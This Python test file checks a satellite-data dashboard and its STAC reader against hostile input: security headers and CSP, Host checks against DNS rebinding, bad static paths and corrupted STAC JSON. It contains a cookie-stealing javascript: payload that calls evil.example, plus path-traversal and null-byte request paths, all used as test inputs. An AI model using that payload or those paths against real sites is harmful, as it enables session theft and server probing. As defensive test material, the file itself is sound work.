"""The dashboard and the STAC reader against hostile or damaged input (issue 22), over a
real store on the embedded S3 server: run records with a ``javascript:`` Dask link,
security headers and a CSP the pages live with, Host checks against DNS rebinding, bad
static paths, damaged STAC JSON, and ids a local-directory store cannot hold."""

from __future__ import annotations

import http.client
import logging
import os
import socket
import subprocess
import sys
import types
from datetime import UTC, datetime
from pathlib import Path

import pystac
import pytest
from cdp_browser import Chromium, chromium_path

from chunkstore import (
    CorruptObjectError,
    InvalidIdError,
    item_key,
    list_items,
    open_store,
    read_item,
    write_item,
)
from dashboards import start_dashboard
from ingest import check_inputs
from satchunk.cli import main

COLL, ITEM = "hard", "scene-a"
JS_LINK = "javascript:fetch('//evil.example/?'+document.cookie)"


def _item(collection: str = COLL, item: str = ITEM) -> pystac.Item:
    ring = [[10.0, 50.0], [10.01, 50.0], [10.01, 50.01], [10.0, 50.01], [10.0, 50.0]]
    return pystac.Item(item, {"type": "Polygon", "coordinates": [ring]},
                       [10.0, 50.0, 10.01, 50.01], datetime(2020, 5, 1, tzinfo=UTC),
                       {"proj:shape": [10, 10], "satchunk:sensor": "generic"},
                       collection=collection)


def _get(url: str, path: str, host: str | None = None) -> tuple[int, dict[str, str], str]:
    """(status, headers, body) of one GET, with the Host header given as it is."""
    where = url.split("//", 1)[1].rstrip("/")
    name, port = where.rsplit(":", 1)
    conn = http.client.HTTPConnection(name.strip("[]"), int(port), timeout=30)
    try:
        conn.putrequest("GET", path, skip_host=host is not None)
        if host is not None:
            conn.putheader("Host", host)
        conn.endheaders()
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read().decode()
    finally:
        conn.close()


@pytest.fixture
def board(s3_store):
    write_item(s3_store, _item())
    dash = start_dashboard(s3_store, port=0)
    yield dash
    dash.stop()


def test_a_javascript_dask_link_is_shown_as_text_not_a_link(s3_store, board):
    """A job run under DASK_DISTRIBUTED__DASHBOARD__LINK=javascript:... records that link;
    the runs pages must not make it clickable (an http one stays a link)."""
    from satchunk.records import run_job

    seen: dict[str, str] = {}

    def work(record):
        seen["id"] = record["run_id"]
        for path in ("/runs", f"/runs/{record['run_id']}"):
            status, _, seen[path] = _get(board.url, path)
            assert status == 200, path
        return {}

    run_job(s3_store, "evaluate", {"model": "m"}, work,
            client=types.SimpleNamespace(dashboard_link=JS_LINK))
    for path in ("/runs", f"/runs/{seen['id']}"):
        page = seen[path]
        assert 'href="javascript' not in page.lower(), path
        assert "Dask dashboard: <code>javascript:fetch(&#39;//evil.example/?&#39;" in page

    def live(record):
        seen["http"] = _get(board.url, "/runs")[2]
        return {}

    run_job(s3_store, "evaluate", {"model": "m"}, live,
            client=types.SimpleNamespace(dashboard_link="http://127.0.0.1:8787/status"))
    assert '<a href="http://127.0.0.1:8787/status">Dask dashboard</a>' in seen["http"]


def test_every_answer_carries_csp_nosniff_and_frame_options(board):
    stac = f"/stac/{COLL}/{ITEM}/{ITEM}.json"
    for path, status in (("/", 200), ("/runs", 200), ("/dataset", 200), (stac, 200),
                         ("/static/style.css", 200), ("/static/app.js", 200),
                         ("/nope", 404), ("/item/hard/nope", 404)):
        got, headers, _ = _get(board.url, path)
        assert got == status, path
        csp = headers.get("content-security-policy", "")
        assert "default-src 'none'" in csp and "script-src 'self'" in csp, path
        assert "img-src 'self'" in csp and "frame-ancestors 'none'" in csp, path
        assert headers.get("x-content-type-options") == "nosniff", path
        assert headers.get("x-frame-options") == "DENY", path
    _, headers, _ = _get(board.url, "/", host="evil.example")
    assert headers.get("x-content-type-options") == "nosniff"  # the 400 too
    # what the CSP allows is all the pages use: no inline script or handler
    page = _get(board.url, "/")[2]
    assert '<script src="/static/app.js"' in page and "<script>" not in page
    assert " onclick=" not in page and " onload=" not in page


@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"),
                    reason="needs Debian's chromium (apt-get install chromium)")
def test_the_csp_lets_the_pages_load_in_a_browser(board):
    """Chromium reports any script, style or image the CSP blocks as a console error."""
    browser = Chromium()
    try:
        page = browser.load(board.url, {"swatch": "getComputedStyle(document.querySelector("
                                                  "'h2 .swatch')).backgroundColor",
                                        "footprints": "document.querySelectorAll("
                                                      "'svg path.footprint').length"})
        runs = browser.load(board.url + "runs")
    finally:
        browser.close()
    assert page.errors == [] and runs.errors == []
    assert page.probes["footprints"] == 1
    assert page.probes["swatch"] not in ("", "rgba(0, 0, 0, 0)")  # its style attribute applies


def test_only_the_bound_address_and_allowed_hosts_are_answered(s3_store):
    write_item(s3_store, _item())
    dash = start_dashboard(s3_store, port=0, allowed_hosts=["dash.example.org",
                                                            "10.1.2.3:8443"])
    port = int(dash.url.rstrip("/").rsplit(":", 1)[1])
    try:
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}",
                     f"[::1]:{port}", "dash.example.org", "dash.example.org:443",
                     "10.1.2.3:8443"):
            assert _get(dash.url, "/", host=host)[0] == 200, host
        for host in ("evil.example", f"evil.example:{port}", f"127.0.0.1:{port + 1}",
                     "127.0.0.1", f"localhost.evil.example:{port}", "10.1.2.3:8050",
                     ""):
            status, headers, body = _get(dash.url, "/static/style.css", host=host)
            assert status == 400, host
            assert headers["content-type"].startswith("text/plain")
            assert body.count("\n") == 1 and "--allowed-host" in body, body
        assert _get(dash.url, "/", host=f"user@127.0.0.1:{port}")[0] == 400  # tornado's
    finally:
        dash.stop()


def test_allowed_host_option_of_the_dashboard_command(s3_env, tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = subprocess.Popen([sys.executable, "-m", "satchunk", "dashboard", "--port", str(port),
                             "--allowed-host", "dash.example.org", "--allowed-host",
                             "other.example:9000"], env={**os.environ, **s3_env},
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}/"
    try:
        assert f"satchunk dashboard: {url}" in proc.stdout.readline()
        assert _get(url, "/", host="dash.example.org")[0] == 200
        assert _get(url, "/", host="other.example:9000")[0] == 200
        assert _get(url, "/", host="other.example:9001")[0] == 400
        assert _get(url, "/", host="evil.example")[0] == 400
    finally:
        proc.terminate()
        proc.wait(20)


def test_a_malformed_allowed_host_is_one_line_exit_2(s3_env, monkeypatch, capsys):
    for k, v in s3_env.items():
        monkeypatch.setenv(k, v)
    assert main(["dashboard", "--port", "0", "--allowed-host", "http://x.example/"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--allowed-host 'http://x.example/'" in err


def test_bad_static_paths_are_404_without_a_traceback(board, caplog):
    caplog.set_level(logging.WARNING)
    for path in ("/static/style.css%00.py", "/static/style.css%00", "/static/%00",
                 "/static/style.css%0a", "/static/..%2f_app.py", "/static/%2e%2e/_app.py",
                 "/static/", "/static/nope.css", "/favicon.ico", "/item/hard/x%00",
                 "/stac/hard/%00.json"):
        status, headers, body = _get(board.url, path)
        assert status == 404, path
        assert "Traceback" not in body and body.count("\n") == 0, path
        assert headers.get("x-content-type-options") == "nosniff", path
    assert not [r for r in caplog.records if r.exc_info], "a traceback was logged"
    assert _get(board.url, "/static/style.css")[0] == 200


def _damage(store, collection: str = COLL, item: str = ITEM) -> str:
    key = item_key(collection, item)
    store.write_bytes(key, store.read_bytes(key)[:57])  # cut short mid-document
    return key


def test_a_cut_stac_item_is_one_line_in_the_cli_and_the_dashboard(s3_store, s3_env, board,
                                                                    monkeypatch, capsys,
                                                                    caplog):
    key = _damage(s3_store)
    with pytest.raises(CorruptObjectError, match="not a STAC JSON document"):
        read_item(s3_store, COLL, ITEM)
    with pytest.raises(CorruptObjectError):
        list_items(s3_store, COLL)
    for k, v in s3_env.items():
        monkeypatch.setenv(k, v)
    for argv in (["catalog", "ls"], ["catalog", "show", ITEM],
                 ["predict", "--collection", COLL, "--model", "ukis-csmask", "--device", "cpu"]):
        assert main(argv) == 1, argv
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "Traceback" not in err, err
        assert s3_store.url(key) in err and "delete_item(store, 'hard', 'scene-a')" in err
        assert "re-run the job that wrote it" in err
    caplog.set_level(logging.WARNING)
    for path in ("/", f"/item/{COLL}/{ITEM}", "/dataset"):
        status, _, body = _get(board.url, path)
        assert status == 500, path
        assert s3_store.url(key) in body and "Traceback" not in body, body
        assert body.count("\n") == 0
    assert not [r for r in caplog.records if r.exc_info], "a traceback was logged"


def test_a_damaged_catalog_json_names_its_fix_and_is_rewritten_once_deleted(s3_store):
    write_item(s3_store, _item())
    s3_store.write_bytes("stac/catalog.json", b"\x00\xff not json")
    with pytest.raises(CorruptObjectError, match=r"stac/catalog\.json .*delete it"):
        write_item(s3_store, _item("other", "scene-b"))
    s3_store.delete_object("stac/catalog.json")
    write_item(s3_store, _item("other", "scene-b"))
    import json

    links = json.loads(s3_store.read_bytes("stac/catalog.json"))["links"]
    assert {lk["href"] for lk in links if lk["rel"] == "child"} == {
        f"./{COLL}/collection.json", "./other/collection.json"}


@pytest.mark.parametrize("where", ["local", "s3"])
def test_a_collection_named_catalog_json_is_refused_in_one_line(where, s3_store, tmp_path,
                                                                landsat_dir):
    store = open_store(str(tmp_path / "store")) if where == "local" else s3_store
    write_item(store, _item())  # a first collection: stac/catalog.json exists
    for collection, item in (("catalog.json", ITEM), (COLL, "collection.json")):
        with pytest.raises(InvalidIdError, match="the STAC catalog's own files are named so"):
            write_item(store, _item(collection, item))
    with pytest.raises(InvalidIdError, match="own files are named so"):  # before any shard
        check_inputs([str(landsat_dir)], "catalog.json")
    assert not store.exists("stac/catalog.json/collection.json")
    assert [i["id"] for i in list_items(store, COLL)] == [ITEM]
    if where == "local":  # the local store holds the rest as S3 does
        assert sorted(p.name for p in Path(store.url("stac")).iterdir()) == ["catalog.json",
                                                                              COLL]
